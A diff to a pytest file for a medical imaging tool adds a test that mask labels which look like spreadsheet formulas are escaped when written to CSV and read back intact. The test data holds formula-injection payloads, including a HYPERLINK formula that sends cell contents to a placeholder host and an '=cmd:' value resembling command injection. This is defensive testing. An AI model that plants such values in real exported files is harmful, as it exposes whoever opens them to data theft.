@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 import yaml
@@ -13,7 +14,20 @@ from launched_project import Project
 from dicomzarr.commands.mask_names import NO_MASKS, lines_of, unnamed_masks
 from dicomzarr.masks.model import Description
 from dicomzarr.masks.names import Vocabulary
+from dicomzarr.records.mask_record import MaskText
+from dicomzarr.stages.consolidate_dataset.mask_rows import name_lines
 
+FORMULAS = (
+    '=HYPERLINK("http://x/?"&A1;"y")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "a\r\n=1",
+    "PTV 95%",
+    "%41",
+    "x;=1+1",
+)
 COLUMNS = ("array", "mask", "name", "label", "description", "codes")
 
 
@@ -129,3 +143,17 @@ def test_status_prints_them_and_they_are_no_reason_for_a_run(tmp_path: Path) -> 
     assert as_json["pending"] is False
     assert as_json["unnamed_masks"] == {"masks": 1, "labels": 1, "proposals": [proposal]}
     assert table.stat().st_mtime_ns == before and sorted(results.rglob("*")) == [results / "private", table]
+
+
+def test_labels_that_a_spreadsheet_takes_for_formulas_are_written_safely_and_read_back_exactly(tmp_path: Path) -> None:
+    texts = [MaskText(f"{at:016x}/0", "unnamed_1", "", text, text, "") for at, text in enumerate(FORMULAS)]
+    texts.append(MaskText("f" * 16 + "/0", "unnamed_1", "", "", "", "=cmd:1 99X:a%20b 99X:a-7"))
+    lines = list(name_lines(SimpleNamespace(masks=SimpleNamespace(texts=texts))))  # type: ignore[arg-type]
+    table = tmp_path / "mask_names.csv"
+    table.write_bytes(b"".join([f"{','.join(COLUMNS)}\n".encode(), *lines]))
+    for separator in ",;\t":  # spreadsheets end cells at the separator of their country
+        with open(table, newline="", encoding="utf-8") as stream:
+            cells = [cell for row in csv.reader(stream, delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@") or not cell.isprintable()]
+    read = {proposal.text for proposal in unnamed_masks(table).proposals}
+    assert read == {*FORMULAS, "99X:a-7"}
